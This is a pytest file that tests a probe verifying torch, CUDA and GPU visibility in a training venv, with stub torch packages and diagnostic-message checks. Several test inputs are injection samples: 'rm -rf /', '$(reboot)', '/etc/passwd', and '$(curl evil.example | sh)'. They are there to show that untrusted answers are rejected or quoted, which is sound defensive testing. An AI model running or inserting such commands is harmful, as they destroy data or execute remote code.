    empty = make_venv_dir(tmp_path / "train", version_py=None)
    assert verify_probe.probe({"venv": str(empty)})["torch_version_py"] is None


def test_version_py_is_read_never_executed():
    text = "__version__ = open('/etc/hostname').read()\ncuda = '12.8'\n"
    assert verify_probe.parse_torch_version_py(text) == {"version": None, "cuda": "12.8", "git_version": None}


@pytest.mark.parametrize(
    ("answer", "message"),
    [
        ([], "the verify probe answered no object"),
        ({"exists": True}, "the verify probe answered no 'python' (bool)"),
        ({"exists": True, "python": True, "torch_version_py": "2.11.0"}, "a torch_version_py that is not an object"),
        (
            {"exists": True, "python": True, "torch_version_py": {"version": "2.11.0+cu128; reboot"}},
            "read torch/version.py's version as '2.11.0+cu128; reboot', which is not a version",
        ),
    ],
)
def test_a_probe_answer_that_is_not_the_probes_is_a_clear_error(answer, message):
    with pytest.raises(VerifyError, match=message.replace("(", r"\(").replace(")", r"\)").replace("+", r"\+")):
        verify_facts.evaluate_step(KNOWN_GOOD, answer, {}, context())


@pytest.mark.parametrize("minor", ["3.9", "3.12"])
def test_the_probe_part_runs_as_the_fact_pass_ships_it(tmp_path, minor):
    python = other_python(minor) if minor != "3.12" else sys.executable
    if python is None:
        unavailable(f"no python{minor} here")
    venv = make_venv_dir(tmp_path / "train")
    payload = verify_facts.probe_payload(KNOWN_GOOD | {"venv": str(venv)})
    answer = run_probes_program(python, {"verify": (verify_probe, payload)})["verify"]["answer"]
    assert answer == verify_probe.probe({"venv": str(venv)})
    assert verify_facts.evaluate_step(dict(KNOWN_GOOD, venv=str(venv)), answer, {}, context())["problems"] == []


# -- the torch script: run by a real python, against a stub torch ------------------------------------------------
STUB_TORCH = """
import os, sys, warnings
print("torch says hello on stdout")  # what a chatty import prints must never reach the answer
os.write(1, b"and CUDA writes to fd 1\\n")
__version__ = os.environ.get("STUB_VERSION", "2.11.0+cu128")
class version:
    cuda = os.environ.get("STUB_CUDA") or None
class backends:
    class cudnn:
        @staticmethod
        def version():
            return 91002
class cuda:
    @staticmethod
    def is_available():
        if os.environ.get("STUB_WARN"):
            warnings.warn(os.environ["STUB_WARN"])
            return False
        return True
    @staticmethod
    def device_count():
        return 0 if os.environ.get("STUB_WARN") else int(os.environ.get("STUB_COUNT", "8"))
    @staticmethod
    def get_device_name(i):
        if os.environ.get("STUB_NAME_ERROR"):
            raise RuntimeError(os.environ["STUB_NAME_ERROR"])
        return "NVIDIA H200"
if os.environ.get("STUB_IMPORT_ERROR"):
    raise ImportError(os.environ["STUB_IMPORT_ERROR"])
"""


def stub_venv(root, python=sys.executable, torch=True):
    """A real venv (without pip: fast) whose torch is the stub above, with a dist-info so metadata finds it."""
    subprocess.run([python, "-m", "venv", "--without-pip", str(root)], check=True)
    (site,) = root.glob("lib/python3.*/site-packages")
    if torch:
        (site / "torch").mkdir()
        (site / "torch" / "__init__.py").write_text(STUB_TORCH)
        dist = site / "torch-2.11.0+cu128.dist-info"
        dist.mkdir()
        (dist / "METADATA").write_text("Metadata-Version: 2.1\nName: torch\nVersion: 2.11.0+cu128\n\n")
    return root


def run_script(venv, **env):
    done = subprocess.run(
        [str(venv / "bin" / "python"), "-I", "-"],
        input=inspect.getsource(verify_probe),
        capture_output=True,
        text=True,
        check=False,
        env={"PATH": "/usr/bin:/bin", "STUB_CUDA": "12.8", **env},
    )
    return done, verify_answers.torch_answer(done.returncode, done.stdout, done.stderr)


@pytest.fixture(scope="module")
def torch_venv(tmp_path_factory):
    return stub_venv(tmp_path_factory.mktemp("torch") / "venv")


def test_a_pth_file_of_the_venv_that_prints_leaves_the_answer_readable(tmp_path):
    """The venv's python runs its site (torch needs it), and a package's .pth file may print before the program
    runs: the answer is the last line of stdout."""
    venv = stub_venv(tmp_path / "venv")
    (site_packages,) = venv.glob("lib/python3.*/site-packages")
    (site_packages / "noisy.pth").write_text("import sys; sys.stdout.write('noise from a .pth file')\n")
    done, facts = run_script(venv)
    assert done.stdout.startswith("noise from a .pth file")
    assert (facts["version"], facts["device_count"], facts["error"]) == ("2.11.0+cu128", 8, None)


def test_the_script_answers_json_only_whatever_torch_prints(torch_venv):
    done, facts = run_script(torch_venv)
    assert "torch says hello on stdout" in done.stderr and "and CUDA writes to fd 1" in done.stderr
    assert json.loads(done.stdout.splitlines()[-1])["torch"] == "2.11.0+cu128"
    assert (facts["version"], facts["cuda"], facts["available"], facts["device_count"]) == (
        "2.11.0+cu128",
        "12.8",
        True,
        8,
    )
    assert facts["device_names"] == ["NVIDIA H200"] * 8
    assert (facts["cudnn"], facts["dist_version"], facts["triton"], facts["error"]) == (
        91002,
        "2.11.0+cu128",
        None,
        None,
    )
    assert facts["python_version"] == sys.version.split()[0]
    assert facts["cuda_visible_devices"] is None


def test_the_script_records_cuda_warnings_and_the_environment(torch_venv):
    warning = json.loads((VERIFY / "torch_probe_802.json").read_text())["warnings"][0]
    _, facts = run_script(torch_venv, STUB_WARN=warning, CUDA_VISIBLE_DEVICES="0,1")
    assert (facts["available"], facts["device_count"], facts["device_names"]) == (False, 0, [])
    assert facts["warnings"] == [verify_probe.short(warning)]
    assert facts["cuda_visible_devices"] == "0,1"


def test_the_script_names_the_phase_that_failed(torch_venv):
    _, facts = run_script(torch_venv, STUB_IMPORT_ERROR="libcudart.so.12: cannot open shared object file")
    assert (facts["failure"], facts["error_phase"], facts["version"]) == ("import", "import", None)
    assert facts["error"] == "ImportError: libcudart.so.12: cannot open shared object file"
    _, facts = run_script(torch_venv, STUB_NAME_ERROR="CUDA error: system not yet initialized\n" + "x" * 500)
    assert (facts["failure"], facts["error_phase"], facts["available"]) == (None, "cuda", True)
    assert facts["error"].startswith("RuntimeError: CUDA error: system not yet initialized x")
    assert len(facts["error"]) == verify_probe.SHORT


def test_a_venv_without_torch_and_an_old_python_answer_too(tmp_path):
    _, facts = run_script(stub_venv(tmp_path / "empty", torch=False))
    assert (facts["failure"], facts["error"]) == ("import", "ModuleNotFoundError: No module named 'torch'")
    python = other_python("3.9")
    if python is None:
        unavailable("no python3.9 here")
    _, facts = run_script(stub_venv(tmp_path / "old", python=python))
    assert (facts["version"], facts["python_version"][:4]) == ("2.11.0+cu128", "3.9.")


def test_the_script_imports_only_the_standard_library_and_torch_only_inside():
    # Its source travels to the target's pythons: nothing of ours but its shared container-side modules (SHARED,
    # shipped with it and optional for the venv's python running torch_facts), nothing installed but the venv's torch.
    tree = ast.parse(inspect.getsource(verify_probe))
    utils = "ansible_collections.pve_gpu.recover.plugins.module_utils"
    ours = [node for node in ast.walk(tree) if isinstance(node, ast.ImportFrom) and node.module.startswith(utils)]
    assert [f"{node.module}.{alias.name}" for node in ours for alias in node.names] == [
        m.__name__ for m in verify_probe.SHARED
    ]
    assert all(node.module == f"{utils}.ct" for node in ours)  # container-side modules only
    imported = {
        (alias.name.split(".")[0], node.col_offset)
        for node in ast.walk(tree)
        if isinstance(node, ast.Import)
        for alias in node.names
    }
    imported |= {
        (node.module.split(".")[0], node.col_offset) for node in ast.walk(tree) if isinstance(node, ast.ImportFrom)
    }
    assert {name for name, _ in imported} - {"torch", "ansible_collections"} <= set(sys.stdlib_module_names)
    assert [column for name, column in imported if name == "torch"] == [12]  # inside torch_facts(), never at the top


# -- the torch script's answer, checked ---------------------------------------------------------------------------
def test_the_real_h200_answer_is_read_as_it_is():
    facts = verify_answers.check_torch_answer(TORCH_REAL)
    assert (facts["version"], facts["cuda"], facts["available"], facts["device_count"]) == (
        "2.11.0+cu130",
        "13.0",
        True,
        1,
    )
    assert (facts["device_names"], facts["cudnn"], facts["triton"], facts["dist_version"]) == (
        ["NVIDIA H200"],
        91900,
        "3.6.0",
        "2.11.0",
    )
    assert (facts["warnings"], facts["devices"], facts["failure"]) == ([], [], None)


@pytest.mark.parametrize(
    ("change", "message"),
    [
        (
            {"torch": "2.11.0+cu128\nrm -rf /"},
            "answered 'torch' as '2.11.0+cu128\\nrm -rf /', which is not a version",
        ),
        ({"cuda": "twelve"}, "answered 'cuda' as 'twelve', which is not a version"),
        ({"available": "yes"}, "answered 'available' as 'yes', not bool"),
        ({"count": True}, "answered 'count' as 'True', not int"),
        ({"count": "8"}, "answered 'count' as '8', not int"),
        ({"names": "NVIDIA H200"}, "answered 'names' as 'NVIDIA H200', not list"),
        ({"names": ["NVIDIA H200"] * 65}, "answered 'names' that is not a list of at most 64 strings"),
        ({"devices": ["/etc/passwd"]}, "answered 'devices' with an entry that does not fit"),
        ({"error_phase": "later"}, "answered 'error_phase' as 'later'"),
        ({"torch": None}, "answered no torch version and no import error"),
        ({"count": None}, "answered CUDA available without a device count"),
    ],
)
def test_an_answer_of_the_wrong_shape_is_a_clear_error(change, message):
    with pytest.raises(VerifyError) as raised:
        verify_answers.check_torch_answer(dict(TORCH_REAL, **change))
    assert message in str(raised.value)
    assert raised.value.kind == "probe"


@pytest.mark.parametrize("key", ["torch", "cuda", "available", "count", "names"])
def test_an_answer_without_a_key_torch_always_gives_is_a_clear_error(key):
    with pytest.raises(VerifyError, match=f"the torch probe answered no '{key}'"):
        verify_answers.check_torch_answer({k: v for k, v in TORCH_REAL.items() if k != key})


@pytest.mark.parametrize(
    ("stdout", "message"),
    [
        ("", "the torch probe printed no JSON answer: nothing"),
        ("Segmentation fault", "the torch probe printed no JSON answer: 'Segmentation fault'"),
        ("[1, 2]", "the torch probe answered list, not an object"),
        (json.dumps(dict(TORCH_REAL, pad="x" * 70000)), "the torch probe answered more than 65536 bytes"),
    ],
)
def test_output_that_is_not_an_answer_is_a_clear_error(stdout, message):
    with pytest.raises(VerifyError, match=message.replace("(", r"\(").replace("[", r"\[")):
        verify_answers.torch_answer(0, stdout, "")


def test_a_python_that_died_is_a_finding_not_a_parse_error():
    facts = verify_answers.torch_answer(
        139, "", "Fatal Python error: Segmentation fault\n\nCurrent thread:\n  File x\n"
    )
    assert (facts["failure"], facts["error"]) == ("crashed", "exit 139 (signal 11): 'File x'")
    assert verify_answers.torch_answer(-11, "", "")["error"] == "exit -11 (signal 11)"


# -- the torch checks of the acting module ----------------------------------------------------------------------
def torch_of(name, **changed):
    return dict(
        verify_answers.check_torch_answer(dict(json.loads((VERIFY / name).read_text()), **changed)), timeout=180
    )


def torch_check(spec, torch, driver="580.159.04", count=8):
    return verify_torch_checks.torch_checks(
        spec, torch, label=LABEL, expected_count=count, count_source="the target's /dev/nvidiaN nodes", driver=driver
    )


def failed(checks):
    return [c["detail"] for c in checks if c["ok"] is False]


def test_the_known_good_torch_passes_every_torch_check():
    checks = torch_check(KNOWN_GOOD, torch_of("torch_probe_cu128_8x.json"))
    assert [(c["name"], c["ok"]) for c in checks] == [
        ("torch_import", True),
        ("torch_version", True),
        ("cuda_version", True),
        ("cuda_available", True),
        ("torch_device_count", True),
        ("torch_device_names", True),
    ]
    assert checks[0]["detail"] == "CT 200 on pve1: /opt/venvs/train/bin/python imports torch 2.11.0+cu128 in 7.912 s"


def test_a_cpu_torch_names_the_wrong_index_in_each_sentence():
    assert failed(torch_check(KNOWN_GOOD, torch_of("torch_probe_cpu.json"))) == [
        "CT 200 on pve1: torch is 2.13.0+cpu (torch.__version__ in /opt/venvs/train), expected 2.11.0+cu128; a CPU "
        "build: torch came from the wrong index (the CPU wheel, from PyPI's default index or the /whl/cpu index); take "
        "torch from https://download.pytorch.org/whl/cu128 (an --extra-index-url of the training_venv lock)",
        "CT 200 on pve1: torch's CUDA is none (a CPU build) (torch.__version__ in /opt/venvs/train), expected 12.8; "
        "a CPU build: torch came from the wrong index (the CPU wheel, from PyPI's default index or the /whl/cpu "
        "index); take torch from https://download.pytorch.org/whl/cu128 (an --extra-index-url of the training_venv "
        "lock)",
        "CT 200 on pve1: torch.cuda.is_available() is False, expected True; a CPU build: torch came from the wrong "
        "index (the CPU wheel, from PyPI's default index or the /whl/cpu index); take torch from "
        "https://download.pytorch.org/whl/cu128 (an --extra-index-url of the training_venv lock)",
    ]
    # Without a version to compare, the build itself is the cause.
    no_spec = failed(torch_check(verify_facts.SPEC_DEFAULTS, torch_of("torch_probe_cpu.json")))
    assert no_spec == [
        "CT 200 on pve1: torch.cuda.is_available() is False, expected True; torch 2.13.0+cpu is a CPU build "
        "(torch.version.cuda is None): the training_venv lock must take a CUDA build of torch from PyTorch's index "
        "(https://download.pytorch.org/whl/cu128 for CUDA 12.8)"
    ]
    # Another release of the same CUDA build is a rebuild, not an index problem.
    other = failed(torch_check(KNOWN_GOOD, torch_of("torch_probe_cu128_8x.json", torch="2.10.0+cu128")))
    assert other == [
        "CT 200 on pve1: torch is 2.10.0+cu128 (torch.__version__ in /opt/venvs/train), expected 2.11.0+cu128; "
        "another torch release: rebuild the venv from the lock (the training_venv step)"
    ]


def test_a_warning_that_is_not_cudas_is_never_given_as_its_cause():
    # The real CPU wheel's import warns about NumPy; a CUDA build failing without a word must not quote it.
    numpy = torch_of("torch_probe_cpu.json")["warnings"]
    assert numpy[0].startswith("Failed to initialize NumPy")
    torch = torch_of("torch_probe_802.json", warnings=numpy)
    (detail,) = failed(torch_check(KNOWN_GOOD, torch))
    assert detail.endswith("CUDA gave no reason: check dmesg | grep -i nvrm on the node")


def test_the_scripts_real_answer_on_an_h200_passes_for_its_own_build():
    real = json.loads((VERIFY / "torch_probe_h200.json").read_text())
    # The script answers what the manual capture of tests/fixtures/h200 printed, plus what explains failures.
    assert {k: real[k] for k in TORCH_REAL} == TORCH_REAL
    spec = dict(KNOWN_GOOD, torch_version="2.11.0+cu130", cuda_version="13.0")
    checks = torch_check(spec, torch_of("torch_probe_h200.json"), count=1)
    assert [(c["name"], c["ok"]) for c in checks] == [
        ("torch_import", True),
        ("torch_version", True),
        ("cuda_version", True),
        ("cuda_available", True),
        ("torch_device_count", True),
        ("torch_device_names", True),
    ]
    # Against the known-good spec it is the other CUDA build, in two sentences.
    wrong = failed(torch_check(KNOWN_GOOD, torch_of("torch_probe_h200.json"), count=1))
    assert len(wrong) == 2
    assert all(d.split("; ")[1].startswith("the other CUDA build of torch") for d in wrong)


@pytest.mark.parametrize(
    ("name", "shown_value"), [("torch_probe_h200_visible_empty.json", "''"), ("torch_probe_h200_visible_5.json", "'5'")]
)
def test_gpus_hidden_by_cuda_visible_devices_are_named_though_cuda_says_nothing(name, shown_value):
    torch = torch_of(name)
    assert (torch["available"], torch["device_count"], torch["warnings"]) == (False, 0, [])  # as captured
    spec = dict(KNOWN_GOOD, torch_version="", cuda_version="")
    assert failed(torch_check(spec, torch, count=1)) == [
        f"CT 200 on pve1: torch.cuda.is_available() is False, expected True; CUDA_VISIBLE_DEVICES={shown_value} is set "
        "in the target's environment"
    ]


def test_error_802_names_the_fabric_manager():
    assert failed(torch_check(KNOWN_GOOD, torch_of("torch_probe_802.json"))) == [
        "CT 200 on pve1: torch.cuda.is_available() is False, expected True; CUDA error 802 (system not yet "
        "initialized): the NVIDIA fabric manager is not running on the node; an NVSwitch system (HGX H200) needs it "
        "before CUDA starts: systemctl enable --now nvidia-fabricmanager (the same version as the driver)"
    ]


INIT = "CUDA initialization: Unexpected error from cudaGetDeviceCount(). Did you run some cuda functions before "
INIT += "calling NumCudaDevices() that might have already set an error? Error {} (Triggered internally at x.cpp:109.)"


@pytest.mark.parametrize(
    ("warning", "cause"),
    [
        (
            INIT.format("804: forward compatibility was attempted on non supported HW"),
            "CUDA error 804: a forward-compat",
        ),
        (INIT.format("999: unknown error"), "CUDA error 999 (unknown error): /dev/nvidia-uvm is missing in the target"),
        (
            INIT.format("100: no CUDA-capable device is detected"),
            "CUDA found no GPU: the /dev/nvidiaN nodes are missing",
        ),
        (
            "CUDA initialization: something nobody has seen",
            "CUDA said 'CUDA initialization: something nobody has seen'",
        ),
    ],
    ids=["804", "999", "100", "unknown"],
)
def test_each_cuda_failure_names_its_cause(warning, cause):
    (detail,) = failed(torch_check(KNOWN_GOOD, torch_of("torch_probe_802.json", warnings=[warning])))
    assert detail.startswith(f"CT 200 on pve1: torch.cuda.is_available() is False, expected True; {cause}")


def test_a_driver_too_old_for_torchs_cuda_is_named_with_the_driver_it_needs():
    torch = torch_of("torch_probe_802.json", torch="2.11.0+cu130", cuda="13.0", warnings=[])
    (detail,) = failed(torch_check(dict(KNOWN_GOOD, torch_version="", cuda_version=""), torch, driver="570.86.15"))
    assert detail == (
        "CT 200 on pve1: torch.cuda.is_available() is False, expected True; driver 570.86.15 is too old for torch's "
        "CUDA 13.0 (it needs 580.65.06 or newer): install a newer driver on the node, or the torch build for an "
        "older CUDA"
    )
    said = torch_of(
        "torch_probe_802.json",
        warnings=["CUDA initialization: The NVIDIA driver on your system is too old (found version 11080)."],
    )
    (detail,) = failed(torch_check(KNOWN_GOOD, said, driver="520.61.05"))
    assert "driver 520.61.05 is too old for CUDA 12.8 (it needs 525.60.13 or newer): the driver is too old" in detail
    assert verify_torch_checks.driver_too_old("580.159.04", "13.0") is None


@pytest.mark.parametrize(
    ("changed", "cause"),
    [
        ({"cuda_visible_devices": "0,1,2,3"}, "CUDA_VISIBLE_DEVICES='0,1,2,3' is set in the target's environment"),
        (
            {"devices": [f"/dev/nvidia{i}" for i in range(7)]},
            "the target has only 7 /dev/nvidiaN nodes: one is missing in the CT (its lxc.mount.entry lines)",
        ),
        ({}, "CUDA_VISIBLE_DEVICES is set for the jobs, or a /dev/nvidiaN node is missing in the target"),
    ],
)
def test_fewer_devices_than_gpus_passed_through_names_why(changed, cause):
    torch = torch_of("torch_probe_cu128_8x.json", count=7, names=["NVIDIA H200"] * 7, **changed)
    (detail,) = failed(torch_check(KNOWN_GOOD, torch))
    assert detail.startswith(
        f"CT 200 on pve1: torch sees 7 GPUs, expected 8 (the target's /dev/nvidiaN nodes); {cause}"
    )


def test_names_torch_reports_are_checked_and_quoted():
    torch = torch_of("torch_probe_cu128_8x.json", names=["NVIDIA H200"] * 7 + ["H200\n$(reboot)"])
    assert failed(torch_check(KNOWN_GOOD, torch)) == [
        "CT 200 on pve1: torch says cuda:7 is 'H200\\n$(reboot)', expected NVIDIA H200"
    ]


@pytest.mark.parametrize(
    ("torch", "detail"),
    [
        (
            verify_answers.torch_failure("not_found", "`/opt/venvs/train/bin/python` not found", 180),
            "CT 200 on pve1: /opt/venvs/train/bin/python not found: there is no venv at /opt/venvs/train; the "
            "training_venv step builds it (or set verify_venv)",
        ),
        (
            verify_answers.torch_failure("timeout", "timed out", 180),
            "CT 200 on pve1: importing torch and starting CUDA did not finish within 180 s and was killed; a GPU "
            "stuck in initialization (dmesg | grep -i xid on the node) or a slow filesystem (then raise "
            "verify_torch_timeout)",
        ),
        (
            verify_answers.torch_answer(139, "", "Segmentation fault\n"),
            "CT 200 on pve1: /opt/venvs/train/bin/python died (exit 139 (signal 11): 'Segmentation fault') while "
            "importing torch and starting CUDA; a broken CUDA library or driver: rebuild the venv from the lock, check "
            "dmesg on the node",
        ),
        (
            torch_of("torch_probe_no_torch.json"),
            'CT 200 on pve1: `import torch` failed in /opt/venvs/train/bin/python: "ModuleNotFoundError: No module '
            "named 'torch'\"; torch is not installed in the venv: the training_venv step installs the lock",
        ),
        (
            torch_of("torch_probe_no_torch.json", error="ImportError: libcudart.so.12: cannot open shared object file"),
            "CT 200 on pve1: `import torch` failed in /opt/venvs/train/bin/python: 'ImportError: libcudart.so.12: "
            "cannot open shared object file'; a CUDA library of torch is missing (the nvidia-* wheels of the other "
            "CUDA build?): rebuild the venv from the lock (the training_venv step)",
        ),
    ],
    ids=["not-found", "timeout", "crashed", "no-torch", "missing-cuda-library"],
)
def test_torch_that_cannot_be_imported_is_one_sentence_and_the_other_torch_checks_wait(torch, detail):
    checks = torch_check(KNOWN_GOOD, torch)
    assert [(c["name"], c["ok"], c["detail"]) for c in checks] == [("torch_import", False, detail)]


def test_an_error_text_from_the_target_is_quoted_and_shortened_in_advice():
    error = "RuntimeError: " + "$(curl evil.example | sh) " * 40
    torch = torch_of("torch_probe_cu128_8x.json", error=error[:300], error_phase="cuda")
    (detail,) = failed(torch_check(KNOWN_GOOD, torch))
    assert detail.startswith("CT 200 on pve1: torch could not name the GPUs: 'RuntimeError: $(curl evil.example | sh)")
    assert "...'" in detail and len(detail) < 600
    assert "\n" not in detail
